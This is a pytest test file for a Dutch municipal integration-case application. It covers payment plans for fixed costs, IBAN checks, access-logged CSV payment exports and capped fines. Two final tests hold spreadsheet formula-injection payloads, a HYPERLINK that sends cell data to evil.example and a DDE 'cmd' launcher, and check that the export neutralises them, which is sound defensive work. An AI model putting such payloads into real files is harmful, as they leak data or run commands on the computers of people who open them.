import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.exceptions import PermissionDenied, ValidationError

from koers.aanbod.models import Ontzorgingsbetaling, SanctieVoorstelPIP
from koers.aanbod.services import VasteLast, besluit_sanctie, betaallijst_csv, maak_ontzorgingsplan, stel_sanctie_voor
from koers.audit.models import Toegangslog
from koers.dossiers.models import TijdlijnGebeurtenis

pytestmark = pytest.mark.django_db

LASTEN = [
    VasteLast("huur", "Woonstichting Tilburg", "NL91ABNA0417164300", Decimal("612.40")),
    VasteLast("energie_water", "Energiebedrijf", "NL20INGB0001234567", Decimal("145.00")),
    VasteLast("zorgverzekering", "CZ", "NL44RABO0123456789", Decimal("138.95")),
]


def test_ontzorgen_plans_six_months_of_three_costs(dossier, klantmanager):
    plan = maak_ontzorgingsplan(dossier, door=klantmanager, start=dt.date(2026, 11, 20), lasten=LASTEN)
    betalingen = list(plan.betalingen.all())
    assert plan.maanden == 6
    assert len(betalingen) == 18
    assert sorted({b.maand for b in betalingen})[0] == dt.date(2026, 11, 1)
    assert sorted({b.maand for b in betalingen})[-1] == dt.date(2027, 4, 1)
    assert plan.regel == "ontzorgen@v2"


def test_ontzorgen_tailoring_needs_a_reason(dossier, klantmanager):
    with pytest.raises(ValidationError):
        maak_ontzorgingsplan(dossier, door=klantmanager, start=dt.date(2026, 12, 1), lasten=LASTEN, maanden=9)
    assert not Ontzorgingsbetaling.objects.exists()
    plan = maak_ontzorgingsplan(
        dossier,
        door=klantmanager,
        start=dt.date(2026, 12, 1),
        lasten=LASTEN[:1],
        maanden=9,
        maatwerk_reden="Schulden; langer ontzorgen nodig",
    )
    assert plan.betalingen.count() == 9


def test_ontzorgen_is_refused_for_a_gezinsmigrant(dossier, klantmanager):
    dossier.inburgeraar.doelgroep = "gezinsmigrant"
    dossier.inburgeraar.save()
    with pytest.raises(ValidationError) as fout:
        maak_ontzorgingsplan(dossier, door=klantmanager, start=dt.date(2026, 12, 1), lasten=LASTEN)
    assert "alleen voor asielstatushouders" in fout.value.messages[0]
    assert not Ontzorgingsbetaling.objects.exists()


def test_ontzorgen_refuses_an_invalid_iban(dossier, klantmanager):
    with pytest.raises(ValidationError):
        maak_ontzorgingsplan(
            dossier,
            door=klantmanager,
            start=dt.date(2026, 12, 1),
            lasten=[VasteLast("huur", "X", "NL00FOUT0000000000", Decimal(1))],
        )


def test_payment_list_has_the_columns_and_is_access_logged(dossier, klantmanager):
    plan = maak_ontzorgingsplan(dossier, door=klantmanager, start=dt.date(2026, 11, 1), lasten=LASTEN)
    tekst = betaallijst_csv(
        plan.betalingen.filter(maand=dt.date(2026, 11, 1)).select_related("plan__dossier__inburgeraar"),
        door=klantmanager,
    )
    regels = tekst.strip().split("\r\n")
    assert regels[0] == "BSN;naam;maand;kostensoort;begunstigde;IBAN;bedrag"
    assert len(regels) == 4
    assert regels[1].startswith(f"{dossier.inburgeraar.bsn};")
    assert any(r.endswith("2026-11;huur;Woonstichting Tilburg;NL91ABNA0417164300;612.40") for r in regels)
    assert Toegangslog.objects.filter(actie="exporteren", dossier_id=dossier.pk).count() == 1


def test_fine_above_800_is_refused(dossier, klantmanager):
    with pytest.raises(ValidationError) as fout:
        stel_sanctie_voor(dossier, door=klantmanager, feiten="Drie maal niet verschenen", bedrag=Decimal("800.01"))
    assert "ten hoogste € 800" in fout.value.messages[0]
    assert not SanctieVoorstelPIP.objects.exists()


def test_fine_is_proposed_then_decided_by_a_teamleider(dossier, klantmanager, teamleider):
    voorstel = stel_sanctie_voor(dossier, door=klantmanager, feiten="Niet verschenen", bedrag=Decimal(800))
    assert voorstel.status == "voorgesteld"
    with pytest.raises(PermissionDenied):
        besluit_sanctie(voorstel, door=klantmanager, opleggen=True)
    besluit_sanctie(voorstel, door=teamleider, opleggen=True, toelichting="Hoor en wederhoor gedaan")
    voorstel.refresh_from_db()
    assert (voorstel.status, voorstel.besloten_door) == ("opgelegd", teamleider)
    titels = list(TijdlijnGebeurtenis.objects.filter(dossier=dossier, soort="sanctie").values_list("titel", flat=True))
    assert "Boete van € 800,00 opgelegd" in titels


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def test_payment_list_neutralises_a_formula_in_a_name_or_payee(dossier, klantmanager):
    dossier.inburgeraar.voornamen = HYPERLINK
    dossier.inburgeraar.save()
    maak_ontzorgingsplan(
        dossier,
        door=klantmanager,
        start=dt.date(2026, 11, 1),
        lasten=[VasteLast("huur", "@SUM(1+1)*cmd|' /C calc'!A0", "NL91ABNA0417164300", Decimal("612.40"))],
    )
    tekst = betaallijst_csv(
        Ontzorgingsbetaling.objects.filter(maand=dt.date(2026, 11, 1)).select_related("plan__dossier__inburgeraar"),
        door=klantmanager,
    )
    rij = next(csv.reader(io.StringIO(tekst.split("\r\n", 1)[1]), delimiter=";"))
    assert rij[1].startswith("'=HYPERLINK(")
    assert rij[4].startswith("'@SUM(")
    assert rij[6] == "612.40"


def test_payment_list_download_neutralises_the_formula(km_client, dossier, klantmanager):
    dossier.inburgeraar.voornamen = HYPERLINK
    dossier.inburgeraar.save()
    maak_ontzorgingsplan(dossier, door=klantmanager, start=dt.date(2026, 11, 1), lasten=LASTEN[:1])
    antwoord = km_client.get("/ontzorgen/betaallijst.csv?maand=2026-11")
    assert antwoord.status_code == 200
    tekst = antwoord.content.decode("utf-8-sig")
    assert "'=HYPERLINK(" in tekst
    assert ";=HYPERLINK(" not in tekst and ';"=HYPERLINK(' not in tekst
